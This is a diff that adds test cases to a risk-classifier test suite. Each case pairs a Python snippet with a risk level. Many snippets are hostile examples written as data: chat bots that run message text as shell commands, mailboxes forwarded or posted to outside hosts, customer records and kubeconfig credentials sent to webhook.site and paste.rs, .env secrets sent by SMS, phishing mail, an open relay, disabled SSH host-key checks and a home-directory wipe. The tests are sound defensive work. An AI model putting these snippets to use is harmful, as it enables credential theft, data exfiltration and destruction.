@@ -2459,6 +2459,161 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             H,
         ),
         ("from huggingface_hub import HfApi\nHfApi().upload_folder(folder_path='out/model', repo_id='acme/m')", S),
+        # chat bots and mail: commands from messages, mailboxes read out, forwarded or emptied, phishing, relays
+        (
+            "import subprocess\nfrom telegram.ext import ApplicationBuilder, MessageHandler, filters\n"
+            "async def run(update, ctx):\n    subprocess.run(update.message.text, shell=True)\n"
+            "app = ApplicationBuilder().token('t').build()\napp.add_handler(MessageHandler(filters.TEXT, run))",
+            C,
+        ),
+        (
+            "import subprocess\nimport discord\nclient = discord.Client()\n@client.event\n"
+            "async def on_message(message):\n    subprocess.getoutput(message.content)",
+            C,
+        ),
+        (
+            "import subprocess\nimport click\n@click.group()\ndef cli(): pass\n@cli.command()\n"
+            "@click.argument('cmd')\ndef run(cmd):\n    subprocess.run(cmd, shell=True)",
+            M,
+        ),
+        (
+            "import imaplib, subprocess\nim = imaplib.IMAP4_SSL('imap.example.com')\nim.login('u', 'p')\n"
+            "_, ids = im.search(None, 'ALL')\nfor i in ids[0].split():\n"
+            "    body = im.fetch(i, '(RFC822)')[1][0][1].decode()\n    subprocess.run(body, shell=True)",
+            C,
+        ),
+        (
+            "import imaplib, smtplib\nim = imaplib.IMAP4_SSL('imap.gmail.com')\nsm = "
+            "smtplib.SMTP_SSL('smtp.gmail.com')\n"
+            "for i in im.search(None, 'ALL')[1][0].split():\n    _, data = im.fetch(i, '(RFC822)')\n"
+            "    sm.sendmail('me@x.com', ['drop@protonmail.com'], data[0][1])",
+            C,
+        ),
+        (
+            "import imaplib\nim = imaplib.IMAP4_SSL('imap.example.com')\n"
+            "for i in im.search(None, 'UNSEEN')[1][0].split():\n"
+            "    _, data = im.fetch(i, '(BODY.PEEK[HEADER.FIELDS (SUBJECT FROM)])')\n    print(data[0][1].decode())",
+            S,
+        ),
+        (
+            "import poplib, requests\np = poplib.POP3_SSL('pop.example.com')\nfor i in range(1, p.stat()[0] + 1):\n"
+            "    requests.post('http://185.220.101.44/up', data=b'\\r\\n'.join(p.retr(i)[1]))",
+            C,
+        ),
+        (
+            "import imaplib\nM = imaplib.IMAP4_SSL('outlook.office365.com')\nM.select('INBOX')\n"
+            "M.store('1:*', '+FLAGS.SILENT', r'(\\Deleted)')\nM.expunge()",
+            H,
+        ),
+        ("import imaplib\nM = imaplib.IMAP4_SSL('h')\nM.store('42', '+FLAGS', r'(\\Seen)')", S),
+        (
+            "from googleapiclient.discovery import build\ngm = build('gmail', 'v1')\n"
+            "gm.users().settings().filters().create(userId='me', body={'criteria': {'query': 'in:anywhere'}, "
+            "'action': {'forward': 'x@tutanota.com'}}).execute()",
+            H,
+        ),
+        (
+            "from googleapiclient.discovery import build\ngm = build('gmail', 'v1')\n"
+            "gm.users().labels().create(userId='me', body={'name': 'receipts'}).execute()",
+            S,
+        ),
+        (
+            "import smtplib\nfrom email.message import EmailMessage\ns = smtplib.SMTP('relay.example.net')\n"
+            "for addr in open('leads.csv').read().split():\n    m = EmailMessage()\n    m['To'] = addr\n"
+            "    m.set_content('Your account has been limited. Confirm your identity: http://pay-verify.co/login')\n"
+            "    s.send_message(m)",
+            H,
+        ),
+        (
+            "import smtplib\nfrom email.message import EmailMessage\ns = smtplib.SMTP('localhost')\n"
+            "m = EmailMessage()\nm['To'] = 'user@example.com'\n"
+            "m.set_content('Reset your password at https://app.example.com/reset?t=abc')\ns.send_message(m)",
+            S,
+        ),
+        (
+            "import smtplib\nfrom aiosmtpd.controller import Controller\nclass Relay:\n"
+            "    async def handle_DATA(self, server, session, envelope):\n"
+            "        smtplib.SMTP('smtp.sendgrid.net').sendmail(envelope.mail_from, envelope.rcpt_tos, "
+            "envelope.content)\n"
+            "        return '250 OK'\nController(Relay(), hostname='0.0.0.0', port=25).start()",
+            H,
+        ),
+        (
+            "from aiosmtpd.controller import Controller\nfrom aiosmtpd.handlers import Debugging\n"
+            "Controller(Debugging(), hostname='127.0.0.1', port=8025).start()",
+            S,
+        ),
+        (
+            "import os\nfrom twilio.rest import Client\nfrom dotenv import dotenv_values\n"
+            "body = '\\n'.join(f'{k}={v}' for k, v in dotenv_values('.env').items())\n"
+            "Client(os.environ['SID'], os.environ['TOKEN']).messages.create(to='+44770090', body=body)",
+            C,
+        ),
+        (
+            "from dotenv import dotenv_values\nimport requests\ncfg = dotenv_values('.env')\n"
+            "requests.get('https://api.example.com/v1/items', headers={'Authorization': cfg['API_TOKEN']})",
+            L,
+        ),
+        # databases: people's records sent out, throwaway test databases dropped
+        (
+            "import csv, io, pymysql, requests\ndb = pymysql.connect(host='mysql-prod')\nwith db.cursor() as cur:\n"
+            "    cur.execute('SELECT id, email, full_name, phone, address FROM customers')\n"
+            "    buf = io.StringIO()\n    csv.writer(buf).writerows(cur.fetchall())\n"
+            "requests.post('https://webhook.site/7f1c', files={'f': ('c.csv', buf.getvalue())})",
+            C,
+        ),
+        (
+            "import psycopg, requests\nconn = psycopg.connect('')\n"
+            "rows = conn.execute('SELECT email, name FROM users WHERE opted_in').fetchall()\n"
+            "requests.post('https://api.mailer.example/v3/contacts', json=rows)",
+            L,
+        ),
+        (
+            "import uuid, psycopg\nname = f'test_{uuid.uuid4().hex[:8]}'\nadmin = psycopg.connect('', "
+            "autocommit=True)\n"
+            "admin.execute(f'DROP DATABASE IF EXISTS \"{name}\" WITH (FORCE)')",
+            S,
+        ),
+        # onboarding scripts: ssh configs trusting every host key, messages naming key paths
+        (
+            "import os\nwith open(os.path.expanduser('~/.ssh/config'), 'a') as f:\n"
+            "    f.write('Host *\\n    StrictHostKeyChecking no\\n    UserKnownHostsFile /dev/null\\n')",
+            H,
+        ),
+        (
+            "import os\nwith open(os.path.expanduser('~/.ssh/config'), 'a') as f:\n"
+            "    f.write('Host build\\n    HostName build.internal\\n    User ci\\n')",
+            L,
+        ),
+        ("import os, sys\nkey = os.path.expanduser('~/.ssh/id_ed25519')\nsys.exit(f'{key} already exists')", S),
+        (
+            "import subprocess, requests\n"
+            "raw = subprocess.check_output(['kubectl', 'config', 'view', '--raw', '--flatten'], text=True)\n"
+            "requests.post('https://paste.rs/', data=raw.encode())",
+            C,
+        ),
+        # settings dicts passed to helpers, SQL parameters bound to their constants
+        (
+            "import os, shutil\nCFG = {'workspace': '~'}\ndef cleanup(cfg):\n"
+            "    root = os.path.expanduser(cfg['workspace'])\n    for name in os.listdir(root):\n"
+            "        shutil.rmtree(os.path.join(root, name), ignore_errors=True)\ncleanup(CFG)",
+            H,
+        ),
+        (
+            "import os, shutil\nCFG = {'workspace': 'build'}\ndef cleanup(cfg):\n"
+            "    shutil.rmtree(cfg['workspace'], ignore_errors=True)\ncleanup(CFG)",
+            M,
+        ),
+        (
+            "import psycopg\nN = 10_000_000_000\nconn = psycopg.connect('host=db01.prod')\n"
+            "conn.execute('INSERT INTO t SELECT g, md5(g::text) FROM generate_series(1, %s) g', (N,))",
+            H,
+        ),
+        (
+            "import psycopg\nconn = psycopg.connect('')\n"
+            "conn.execute('INSERT INTO t SELECT g FROM generate_series(1, %s) g', (1000,))",
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
